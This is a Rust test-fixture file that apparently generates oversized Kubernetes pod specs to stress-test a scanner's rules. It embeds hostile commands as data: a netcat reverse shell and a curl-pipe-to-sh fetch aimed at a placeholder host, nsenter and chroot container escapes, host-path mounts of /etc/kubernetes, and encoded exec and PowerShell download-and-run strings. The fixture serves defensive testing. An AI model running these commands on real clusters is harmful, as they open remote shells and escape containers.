//! Pods with much of one thing, or of two that meet.

use serde_json::{Value, json};

use super::{file, fill, many};

pub(super) fn all(size: usize) -> Vec<(&'static str, Vec<u8>)> {
    let half = size / 2;
    let env = |size: usize| many(size, |number| json!({"name": format!("A{number}"), "value": "hunter2"}));
    let grows = many(
        size,
        |number| json!({"name": format!("A{}", number + 1), "value": format!("$(A{number})$(A{number})")}),
    );
    let volumes = |size: usize| {
        many(size, |number| json!({"name": format!("v{number}"), "hostPath": {"path": "/etc/kubernetes"}}))
    };
    let mounts = many(
        half,
        |number| json!({"name": format!("v{number}"), "mountPath": format!("/a{number}"), "subPath": "b"}),
    );
    let ncat = json!({"name": "c", "image": "ncat", "command": ["nc", "-e", "sh", "192.0.2.1", "1"]});
    // Whatever a rule shows is searched for values of the environment.
    let hits = "nc -e sh 192.0.2.1 1;curl http://192.0.2.1/x|sh;nsenter -t 1 -m sh;nmap 10.0.0.0/8;chroot /host sh\n";
    let shown = hits.replace(';', &format!(" {};", "y ".repeat(1500)));
    let similar = |size: usize| {
        many(size, |number| json!({"name": format!("A{number}"), "value": format!("y y y {number}")}))
    };
    // Each is the beginning of the next.
    let beginnings = many(half, |number| json!({"name": "A", "value": "y ".repeat(number % 800)}));
    let many_hits = fill(half, "", &["nc -e sh 192.0.2.1 y y y #;"]);
    let deep = "/a".repeat(2000);
    let deep_volume = json!({"name": "v", "hostPath": {"path": "/"}});

    vec![
        ("many arguments", container(json!({"command": many(size, |number| json!(format!("a{number}")))}))),
        ("many arguments behind a script", {
            let mut command =
                vec![json!("sh"), json!("-c"), json!(fill(half, "", &["nc -e sh 192.0.2.1 1;"]))];
            command.extend(many(half, |_| json!("a")));
            container(json!({"command": command}))
        }),
        ("many containers", file(&json!({"containers": many(size, |_| ncat.clone())}))),
        ("many containers and volumes", {
            let containers = many(half, |_| json!({"name": "c"}));
            file(&json!({"containers": containers, "volumes": volumes(half)}))
        }),
        ("many volumes", {
            let container = json!({"name": "c", "volumeMounts": mounts});
            file(&json!({"containers": [container], "volumes": volumes(half)}))
        }),
        ("one volume in many places", {
            let mounts = many(
                half,
                |number| json!({"name": "v", "mountPath": format!("/a{number}"), "subPath": format!("b{number}")}),
            );
            let script = fill(half, "cat", &[" /a#/x"]);
            let container = json!({"name": "c", "volumeMounts": mounts, "command": ["sh", "-c", script]});
            file(&json!({"containers": [container], "volumes": [deep_volume]}))
        }),
        ("deep paths", {
            let mounts = json!([{"name": "v", "mountPath": deep}]);
            let script = fill(size - 10_000, "cat", &[&format!(" {deep}")]);
            let container = json!({"name": "c", "volumeMounts": mounts, "command": ["sh", "-c", script]});
            file(&json!({"containers": [container], "volumes": [deep_volume]}))
        }),
        ("an environment that grows", {
            container(json!({"env": grows, "command": ["sh", "-c", "nc -e /bin/sh $(A9) $A99 $(A999)"]}))
        }),
        ("an environment for many scripts", {
            container(json!({"env": env(half), "command": ["sh", "-c", fill(half, "", &["sh -c b;"])]}))
        }),
        ("an environment for code", {
            let script = fill(half, "", &["python3 -c 'os.system(\"sh -c b\")';"]);
            container(json!({"env": env(half), "command": ["sh", "-c", script]}))
        }),
        ("an environment for many hooks", {
            let hook = json!({"exec": {"command": ["sh", "-c", "b"]}});
            let hooks = json!({"postStart": hook, "preStop": hook});
            container(
                json!({"env": env(size), "lifecycle": hooks, "livenessProbe": hook, "startupProbe": hook}),
            )
        }),
        ("an environment that is searched", {
            container(json!({"env": similar(half), "command": ["sh", "-c", shown]}))
        }),
        ("an environment that is searched much", {
            container(json!({"env": similar(half), "command": ["sh", "-c", many_hits]}))
        }),
        ("an environment of beginnings", {
            let script = fill(half, "", &[&format!("nc -e sh 192.0.2.1 {};", "y ".repeat(700))]);
            container(json!({"env": beginnings, "command": ["sh", "-c", script]}))
        }),
        ("encoded code", {
            let code = fill(size / 4, "b64decode exec ", &["\"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=\","]);
            container(json!({"command": ["python3", "-c", code]}))
        }),
        (
            "code of node",
            container(json!({"command": ["node", "-e", fill(size, "", &["net.connect exec("])]})),
        ),
        (
            "code of PowerShell",
            container(json!({"command": ["pwsh", "-c", fill(size, "", &["IEX(iwr x);"])]})),
        ),
    ]
}

fn container(fields: Value) -> Vec<u8> {
    let mut fields = fields;
    fields["name"] = json!("c");
    file(&json!({"containers": [fields]}))
}
